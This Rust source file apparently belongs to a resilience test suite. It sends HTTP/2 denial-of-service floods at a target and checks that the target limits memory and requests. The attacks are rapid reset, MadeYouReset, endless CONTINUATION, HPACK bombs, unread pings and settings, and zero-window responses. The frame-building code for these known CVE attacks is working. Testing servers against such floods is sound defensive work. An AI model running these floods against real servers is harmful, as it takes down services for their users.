//! Over HTTP/2: the floods of CVE-2019-9511 to -9518, rapid reset (CVE-2023-44487), MadeYouReset (CVE-2025-8671),
//! CONTINUATION (CVE-2024-27316) and HPACK bombs.

use super::{
    Attack,
    wire::{END_HEADERS, END_STREAM, Flood, GET, LIMIT, POST, PREFACE, flood, frame, kind},
};
use anyhow::{Context, Result, ensure};
use futures::FutureExt;
use std::{net::SocketAddr, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// ENHANCE_YOUR_CALM (RFC 9113 7).
const CALM: u32 = 11;
const FRAMES: u64 = 50_000;

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "rapid reset",
            run: |to| calmed(to.plain, rapid_reset).boxed(),
            most_mib: 8.0,
            most_requests: 5.0,
        },
        Attack {
            name: "streams that we have to reset",
            run: |to| calmed(to.plain, made_reset).boxed(),
            most_mib: 8.0,
            most_requests: 5.0,
        },
        Attack {
            name: "CONTINUATION without end",
            run: |to| {
                async move {
                    let start = [PREFACE, &frame(kind::HEADERS, END_STREAM, 1, GET)].concat();
                    let piece = frame(kind::CONTINUATION, 0, 1, &literal("x-more", &"y".repeat(100)));
                    flood(to.plain, &start, FRAMES, LIMIT, |_| piece.clone()).await?.was_closed()
                }
                .boxed()
            },
            most_mib: 8.0,
            most_requests: 1.0,
        },
        Attack { name: "HPACK bomb", run: |to| bomb(to.plain).boxed(), most_mib: 16.0, most_requests: 20.0 },
        Attack {
            name: "pings, answers unread",
            run: |to| unread(to.plain, frame(kind::PING, 0, 0, &[7; 8])).boxed(),
            most_mib: 8.0,
            most_requests: 1.0,
        },
        Attack {
            name: "settings, answers unread",
            run: |to| unread(to.plain, frame(kind::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).boxed(),
            most_mib: 8.0,
            most_requests: 1.0,
        },
        Attack {
            name: "empty DATA frames",
            run: |to| tolerated(to.plain, POST, frame(kind::DATA, 0, 1, b"")).boxed(),
            most_mib: 8.0,
            most_requests: 1.0,
        },
        Attack {
            name: "priorities",
            run: |to| tolerated(to.plain, POST, frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16])).boxed(),
            most_mib: 8.0,
            most_requests: 1.0,
        },
        Attack {
            name: "100 answers of 1 MiB, window 0",
            run: |to| no_window(to.plain).boxed(),
            most_mib: 40.0,
            most_requests: 50.0,
        },
    ]
}

/// A field in HPACK, literal and not indexed.
fn literal(name: &str, value: &str) -> Vec<u8> {
    assert!(name.len() < 127 && value.len() < 127, "longer lengths are not needed here");
    [&[0, name.len() as u8], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
}

fn rapid_reset(number: u64) -> Vec<u8> {
    let stream = number as u32 * 2 + 1;
    let mut out = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, GET);
    out.extend(frame(kind::RST_STREAM, 0, stream, &8u32.to_be_bytes()));
    out
}

fn made_reset(number: u64) -> Vec<u8> {
    let stream = number as u32 * 2 + 1;
    let head = [POST, &literal("content-length", "1")].concat();
    let mut out = frame(kind::HEADERS, END_HEADERS, stream, &head);
    out.extend(frame(kind::DATA, 0, stream, b"more than one"));
    out
}

/// Connects again and again until everything is sent: each connection must be told to calm down.
async fn calmed(to: SocketAddr, piece: fn(u64) -> Vec<u8>) -> Result<u64> {
    let mut sent = 0;
    for _ in 0..20 {
        // Whole batches, so that the proxy can't look at each stream before its reset comes.
        let batch = |number: u64| (number * 100..(number + 1) * 100).flat_map(piece).collect();
        let end = flood(to, PREFACE, FRAMES / 100 / 20, LIMIT, batch).await?;
        // A close with unread bytes may overtake the GOAWAY.
        ensure!(end.goaway().is_none_or(|code| code == CALM), "GOAWAY {:?}", end.goaway());
        sent += end.sent * 100;
        end.was_closed()?;
    }
    Ok(sent)
}

/// A dynamic table's entry of 4 KB, named again and again.
async fn bomb(to: SocketAddr) -> Result<u64> {
    // Literal with incremental indexing: name `x`, value of 4000 bytes; the length is 127 + 3873 in HPACK's varint.
    let mut entry = vec![0x40, 1, b'x', 0x7f];
    entry.extend([0xa1, 0x1e]);
    entry.extend([b'v'; 4000]);
    let first = [GET, &entry].concat();
    let start = [PREFACE, &frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &first)].concat();
    // 16,000 references: 64 MB of headers in 16 KB.
    let again = [GET, &[0xbe; 16_000]].concat();
    let end: Flood = flood(to, &start, 200, Duration::from_secs(1), |number| {
        frame(kind::HEADERS, END_HEADERS | END_STREAM, number as u32 * 2 + 3, &again)
    })
    .await?;
    Ok(end.sent)
}

/// Frames whose answers are not read.
async fn unread(to: SocketAddr, frame: Vec<u8>) -> Result<u64> {
    let mut stream = TcpStream::connect(to).await.context("connect")?;
    stream.write_all(PREFACE).await?;
    let mut sent = 0;
    while sent < FRAMES {
        let batch = frame.repeat(100);
        match tokio::time::timeout(Duration::from_secs(2), stream.write_all(&batch)).await {
            Ok(Ok(())) => sent += 100,
            // It stopped reading or closed: both bound it.
            _ => break,
        }
    }
    Ok(sent)
}

/// Frames that break no rule: they cost little, and the stream is served or reset.
async fn tolerated(to: SocketAddr, head: &[u8], frame_: Vec<u8>) -> Result<u64> {
    let start = [PREFACE, &frame(kind::HEADERS, END_HEADERS, 1, head)].concat();
    Ok(flood(to, &start, FRAMES / 100, Duration::ZERO, |_| frame_.repeat(100)).await?.sent * 100)
}

/// Asks for large answers and leaves no room for them.
async fn no_window(to: SocketAddr) -> Result<u64> {
    let mut stream = TcpStream::connect(to).await.context("connect")?;
    // SETTINGS_INITIAL_WINDOW_SIZE 0.
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
    let head = [GET, &literal("x-echo-size", "1048576")].concat();
    for number in 0..100 {
        bytes.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &head));
    }
    stream.write_all(&bytes).await?;
    let (mut buffer, mut heads) = ([0; 4096], 0);
    let _ = tokio::time::timeout(Duration::from_secs(3), async {
        while let Ok(count @ 1..) = stream.read(&mut buffer).await {
            heads += count;
        }
    })
    .await;
    ensure!(heads > 1000, "the heads of the answers did not come: {heads} bytes");
    Ok(100)
}
